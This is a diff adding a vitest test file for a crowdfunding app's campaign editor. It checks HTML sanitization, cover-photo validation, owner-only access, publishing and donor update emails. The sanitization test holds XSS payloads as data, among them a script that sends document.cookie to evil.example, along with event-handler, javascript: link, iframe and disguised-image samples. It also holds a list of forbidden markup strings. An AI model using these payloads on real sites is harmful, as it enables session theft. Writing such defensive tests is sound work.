@@ -1,0 +1,246 @@
+// The approved campaigner's editor, as its user and its attacker would use it: the story is
+// sanitized on write, the cover is judged by its bytes and re-encoded, only the owner (or staff)
+// reaches a campaign, staff publish a complete draft, and updates reach donors who asked.
+import { existsSync } from 'node:fs';
+import { join } from 'node:path';
+import { campaignEditorMessages as em } from '@sahyog/core';
+import { schema as s } from '@sahyog/db';
+import { eq } from 'drizzle-orm';
+import sharp from 'sharp';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { loginAs, messagesTo, nextIp, registerUser, type TestUser, uniqueEmail } from '../support/accounts.ts';
+import { getTestApp } from '../support/app.ts';
+import { getDb, getTestDb } from '../support/db.ts';
+import { createCampaign, unique } from '../support/factories.ts';
+
+let owner: TestUser;
+let ownerToken = '';
+let staffToken = '';
+beforeAll(async () => {
+  await getTestApp();
+  owner = await registerUser({ fullName: 'Campaign Owner' });
+  ownerToken = await loginAs(owner);
+  staffToken = await loginAs(await registerUser({ role: 'staff' }));
+});
+
+const jpeg = (width: number, height: number) =>
+  sharp({ create: { width, height, channels: 3, background: { r: 20, g: 120, b: 110 } } })
+    .jpeg()
+    .toBuffer();
+
+async function draft(overrides: Record<string, unknown> = {}) {
+  return createCampaign({ status: 'draft', ownerId: owner.id, image: '', storyHtml: '', ...overrides });
+}
+
+async function postForm(url: string, token: string, fields: Record<string, string | Blob>, filename = 'cover.jpg') {
+  const fd = new FormData();
+  for (const [k, v] of Object.entries(fields)) {
+    if (typeof v === 'string') fd.append(k, v);
+    else fd.append(k, v, filename);
+  }
+  const req = new Request('http://localhost/', { method: 'POST', body: fd });
+  const { app } = await getTestApp();
+  return app.inject({
+    method: 'POST',
+    url,
+    headers: { 'content-type': req.headers.get('content-type') ?? '', authorization: `Bearer ${token}` },
+    payload: Buffer.from(await req.arrayBuffer()),
+    remoteAddress: nextIp(),
+  });
+}
+
+const details = (overrides: Record<string, string> = {}) => ({
+  intent: 'save',
+  title: 'Books for the hill school',
+  categoryId: '12',
+  goalRupees: '250000',
+  summary: 'Forty children, one shelf.',
+  storyHtml: '<p>The school has <strong>forty</strong> children.</p>',
+  videoUrl: '',
+  ...overrides,
+});
+
+async function row(id: number) {
+  const [c] = await (await getDb()).select().from(s.campaigns).where(eq(s.campaigns.id, id));
+  if (!c) throw new Error('campaign gone');
+  return c;
+}
+
+describe('the story is sanitized on write', () => {
+  it('drops scripts, handlers, styles, frames and javascript: links; keeps the text and safe markup', async () => {
+    const c = await draft();
+    const story = [
+      '<p onclick="steal()">Dear donors,</p>',
+      '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
+      '<img src=x onerror="alert(1)">',
+      '<p style="position:fixed">Read <a href="javascript:alert(2)">this</a> and <a href="https://school.example/report">the report</a>.</p>',
+      '<iframe src="https://evil.example"></iframe><svg><script>alert(3)</script></svg>',
+      '<h2>Why now</h2><ul><li>Monsoon</li></ul>',
+    ].join('');
+    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ storyHtml: story }));
+    expect(res.statusCode).toBe(302);
+    const stored = (await row(c.id)).storyHtml;
+    for (const bad of ['<script', 'onclick', 'onerror', '<img', 'style=', 'javascript:', '<iframe', '<svg', 'alert(', 'evil.example'])
+      expect(stored).not.toContain(bad);
+    expect(stored).toContain('<p>Dear donors,</p>');
+    expect(stored).toContain('<a href="https://school.example/report" rel="nofollow noopener noreferrer" target="_blank">the report</a>');
+    expect(stored).toContain('<h2>Why now</h2><ul><li>Monsoon</li></ul>');
+    expect(await row(c.id)).toMatchObject({ title: 'Books for the hill school', categoryId: 12, goalPaise: 250000_00, summary: 'Forty children, one shelf.' });
+  });
+
+  it('bad details answer their messages and change nothing', async () => {
+    const c = await draft({ title: 'Unchanged' });
+    const cases: [Record<string, string>, string, string][] = [
+      [{ title: '' }, 'title', em.titleRequired],
+      [{ goalRupees: '500' }, 'goalRupees', em.goalRange],
+      [{ goalRupees: '12.5' }, 'goalRupees', em.goalRange],
+      [{ categoryId: '99' }, 'categoryId', em.categoryRequired],
+      [{ videoUrl: 'https://evil.example/watch?v=abcdefghijk' }, 'videoUrl', em.videoInvalid],
+      [{ endsOn: '2020-01-01' }, 'endsOn', em.endsInPast],
+      [{ faq1q: 'Where does the money go?' }, 'faq1', em.faqIncomplete],
+    ];
+    for (const [bad, field, message] of cases) {
+      const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, details(bad));
+      expect(res.statusCode, field).toBe(200);
+      expect(res.body.replaceAll('&#x27;', "'"), field).toContain(message);
+      expect(res.body, field).toMatch(
+        new RegExp(`id="f-${field === 'faq1' ? 'faq1q' : field}"[^>]*aria-invalid="true"|aria-invalid="true"[^>]*id="f-${field === 'faq1' ? 'faq1q' : field}"`),
+      );
+    }
+    expect((await row(c.id)).title).toBe('Unchanged');
+  });
+
+  it('a YouTube link is kept as its video id', async () => {
+    const c = await draft();
+    await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ videoUrl: 'https://youtu.be/dQw4w9WgXcQ?t=3' }));
+    expect((await row(c.id)).videoId).toBe('dQw4w9WgXcQ');
+  });
+});
+
+describe('the cover photo', () => {
+  it('a real photo is cropped to 1200×800 and stored as JPEG and WebP, without its metadata', async () => {
+    const c = await draft();
+    const photo = await sharp({ create: { width: 1600, height: 1200, channels: 3, background: '#cc8844' } })
+      .withExif({ IFD0: { Copyright: 'secret-location-tag' } })
+      .jpeg()
+      .toBuffer();
+    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'cover', cover: new Blob([photo]) });
+    expect(res.statusCode).toBe(302);
+    const saved = await row(c.id);
+    expect(saved.image).toMatch(new RegExp(`^/media/campaigns/${c.id}/cover-[0-9a-f]{12}\\.jpg$`));
+    expect(saved.imageWebp).toBe(saved.image.replace(/\.jpg$/, '.webp'));
+    const { dataDir } = await getTestDb();
+    const file = join(dataDir, saved.image);
+    expect(existsSync(file)).toBe(true);
+    const meta = await sharp(file).metadata();
+    expect(meta).toMatchObject({ format: 'jpeg', width: 1200, height: 800 });
+    expect(meta.exif).toBeUndefined();
+    expect((await sharp(join(dataDir, saved.imageWebp ?? '')).metadata()).format).toBe('webp');
+  });
+
+  it.each([
+    ['a text file named .jpg', () => Promise.resolve(Buffer.from('GIF89a<script>alert(1)</script>')), em.coverType],
+    [
+      'an SVG with a script',
+      () => Promise.resolve(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="800"><script>alert(1)</script></svg>')),
+      em.coverType,
+    ],
+    ['a photo too small', () => jpeg(300, 200), em.coverTooSmall],
+    ['a file over 5 MB', async () => Buffer.concat([await jpeg(1200, 800), Buffer.alloc(5 * 1024 * 1024)]), em.coverTooLarge],
+  ])('refuses %s with its message and keeps the old cover', async (_label, make, message) => {
+    const c = await draft({ image: '/media/keep.jpg' });
+    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'cover', cover: new Blob([await make()]) });
+    expect(res.statusCode).toBe(200);
+    expect(res.body).toContain(message);
+    expect((await row(c.id)).image).toBe('/media/keep.jpg');
+  });
+
+  it('a body far over the limit is refused before it is read (413)', async () => {
+    const c = await draft();
+    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'cover', cover: new Blob([Buffer.alloc(8 * 1024 * 1024)]) });
+    expect(res.statusCode).toBe(413);
+  });
+});
+
+describe('who reaches a campaign', () => {
+  it('another signed-in user gets a 404 for it, and cannot change it; signed out goes to login', async () => {
+    const c = await draft({ title: 'Mine alone' });
+    const stranger = await loginAs(await registerUser());
+    const { app } = await getTestApp();
+    expect((await app.inject({ method: 'GET', url: `/my-campaigns/${c.id}`, headers: { authorization: `Bearer ${stranger}` } })).statusCode).toBe(404);
+    const res = await postForm(`/my-campaigns/${c.id}`, stranger, details({ title: 'Taken over' }));
+    expect(res.statusCode).toBe(404);
+    const cover = await postForm(`/my-campaigns/${c.id}`, stranger, { intent: 'cover', cover: new Blob([await jpeg(1200, 800)]) });
+    expect(cover.statusCode).toBe(404);
+    expect(await row(c.id)).toMatchObject({ title: 'Mine alone', image: '' });
+    expect((await app.inject({ method: 'GET', url: `/my-campaigns/${c.id}` })).statusCode).toBe(302);
+    const list = await app.inject({ method: 'GET', url: '/my-campaigns', headers: { authorization: `Bearer ${stranger}` } });
+    expect(list.body).not.toContain('Mine alone');
+    const mine = await app.inject({ method: 'GET', url: '/my-campaigns', headers: { authorization: `Bearer ${ownerToken}` } });
+    expect(mine.body).toContain('Mine alone');
+  });
+});
+
+describe('publishing and updates', () => {
+  it('staff publish only a complete draft; then it is public and the campaigner can no longer edit it', async () => {
+    const { services, app } = await getTestApp();
+    const c = await draft({ title: `Publish ${unique('p')}` });
+    await expect(services.campaigner.publish(c.id)).rejects.toMatchObject({ message: em.publishNeeds });
+    await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ title: c.title }));
+    await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'cover', cover: new Blob([await jpeg(1200, 800)]) });
+    const res = await app.inject({
+      method: 'POST',
+      url: '/admin/applications',
+      headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Bearer ${staffToken}` },
+      payload: new URLSearchParams({ intent: 'publish', campaignId: String(c.id) }).toString(),
+    });
+    expect(res.statusCode).toBe(302);
+    const page = await app.inject({ method: 'GET', url: `/campaigns/${c.slug}` });
+    expect(page.statusCode).toBe(200);
+    expect(page.body).toContain('type="image/webp"');
+    expect(page.body).toContain('<strong>forty</strong>');
+    const edit = await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ title: 'Changed after publishing' }));
+    expect(edit.body).toContain(em.notEditable);
+    expect((await row(c.id)).title).toBe(c.title);
+  });
+
+  it('an update shows on the page and is emailed only to paid donors who asked for updates', async () => {
+    const c = await createCampaign({ ownerId: owner.id });
+    const db = await getDb();
+    const wants = uniqueEmail('wants');
+    const quiet = uniqueEmail('quiet');
+    const { services } = await getTestApp();
+    for (const [email, updates] of [
+      [wants, true],
+      [quiet, false],
+    ] as const) {
+      const { order } = await services.giving.createOrder(
+        {
+          campaign: c.slug,
+          amountPaise: 500_00,
+          tipPaise: 0,
+          urgentPaise: 0,
+          items: [],
+          donor: { name: 'Donor', email, mobile: '9876543210', pan: undefined, address: undefined },
+          whatsappUpdates: updates,
+          hideName: false,
+          method: 'simulator',
+        },
+        { idempotencyKey: unique('k'), ip: nextIp() },
+      );
+      await services.giving.simulate(order.reference, 'success');
+    }
+    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, {
+      intent: 'update',
+      title: 'Shelves are up',
+      body: 'The carpenter finished today.\n\n<b>Thank you</b>',
+    });
+    expect(res.statusCode).toBe(302);
+    const [u] = await db.select().from(s.campaignUpdates).where(eq(s.campaignUpdates.campaignId, c.id));
+    expect(u?.bodyHtml).toBe('<p>The carpenter finished today.</p><p>&lt;b&gt;Thank you&lt;/b&gt;</p>');
+    expect((await messagesTo(wants)).some((m) => m.subject === `Update from ${c.title}: Shelves are up`)).toBe(true);
+    expect((await messagesTo(quiet)).some((m) => /Update from/.test(m.subject))).toBe(false);
+    const empty = await postForm(`/my-campaigns/${c.id}`, ownerToken, { intent: 'update', title: '', body: '' });
+    expect(empty.body).toContain(em.updateTitleRequired);
+  });
+});
